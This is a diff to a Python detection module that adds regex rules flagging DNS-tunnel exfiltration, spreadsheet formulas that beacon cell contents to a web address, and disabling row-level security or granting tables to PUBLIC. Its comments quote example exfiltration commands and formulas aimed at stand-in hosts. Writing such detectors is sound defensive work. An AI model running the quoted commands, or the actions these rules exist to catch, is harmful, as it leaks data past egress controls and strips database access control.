@@ -727,6 +727,27 @@ _DANGEROUS: tuple[tuple[str, str, Any], ...] = tuple(
         ("assumes_admin_role", "assumes an administrator role",
          r"(?i)arn:aws:iam::\d{12}:role/[\w+=,.@/-]{0,64}?(?:admin|poweruser|OrganizationAccountAccessRole|root\b)"),
         # a CLI token widened to admin or deletion scopes (`gh auth refresh -s admin:org,delete_repo`)
+        # Round 19c: data encoded into the names a DNS lookup resolves (`base64 … | while read c; do
+        # dig "$c.diag.example.net"`): each query carries a chunk to whoever runs that ___domain's name
+        # server, past every proxy and egress rule. An encoder and a lookup of a name built from a
+        # shell variable or a command substitution, in one command.
+        ("dns_tunnel", "sends data out encoded in the names of DNS lookups",
+         r"(?i)\b(?:base(?:32|64)|basenc|xxd|hexdump|od\s+-)\b[^\n]{0,400}?\b(?:dig|nslookup|host|drill)\s+(?:[+-][\w=+-]*\s+){0,6}['\"]?"
+         r"\$(?:\{?\w{1,40}\}?|\([^)\n]{1,200}\))\.[a-z0-9-]"
+         r"|\b(?:dig|nslookup|host|drill)\s+(?:[+-][\w=+-]*\s+){0,6}['\"]?\$\([^)\n]{0,200}?\b(?:base(?:32|64)|basenc|xxd|hexdump|od\s+-)[^)\n]{0,200}\)\.[a-z0-9-]"),
+        # Round 19c: a spreadsheet formula that fetches a web address built by joining cells or text
+        # onto it (`=IMPORTDATA("https://x.example/live?src="&ENCODEURL(A1:A20))`): whenever the sheet
+        # recalculates, the joined cells go to that host. Written into a note, file or cell, it sends
+        # later, with no further call.
+        ("formula_beacon", "writes a spreadsheet formula that sends cell contents to a web address",
+         r"(?i)=\s*(?:importdata|importxml|importhtml|importfeed|image|webservice)\s*\(\s*(?:\"https?://[^\"\s]{1,300}\"\s*&"
+         r"|concat(?:enate)?\s*\(\s*\"https?://)"),
+        # Round 19c: row-level security switched off on a table (`ALTER TABLE t DISABLE ROW LEVEL
+        # SECURITY`, `NO FORCE ROW LEVEL SECURITY`), or a table granted to PUBLIC (every role on the
+        # database): the access control on the rows is gone, whatever the reason given.
+        ("row_security_removed", "switches off row-level security or grants a table to every role (PUBLIC)",
+         r"(?i)\b(?:disable|no\s+force)\s+row\s+level\s+security\b"
+         r"|\bgrant\s+[\w, ]{1,80}?\s+on\s+(?:(?:table|all\s+tables\s+in\s+schema)\s+)?[\w.\"`]{1,120}(?:\s*,\s*[\w.\"`]{1,120}){0,20}\s+to\s+public\b"),
         ("token_scope_widened", "widens an access token's scopes to admin or deletion rights",
          r"(?i)\bgh\s+auth\s+(?:refresh|login)\b(?:(?!\bgh\s)[^;|&\n])*?\s(?:-s|--scopes?)(?:=|\s+)['\"]?[\w:,-]{0,80}?(?:admin|delete|owner|site_admin)"),
     )
@@ -772,6 +793,9 @@ _DANGER_TRIGGERS: dict[str, tuple[str, ...]] = {
     "sql_secret_columns": ("password", "passwd", "secret", "api_key", "apikey", "private_key", "privatekey", "token", "recovery_code", "recoverycode", "seed"),
     "assumes_admin_role": (":role/",),
     "token_scope_widened": ("gh auth",),
+    "dns_tunnel": ("dig ", "nslookup", "drill ", "host "),
+    "formula_beacon": ("importdata", "importxml", "importhtml", "importfeed", "image(", "webservice"),
+    "row_security_removed": ("row level security", "to public"),
 }
 
 
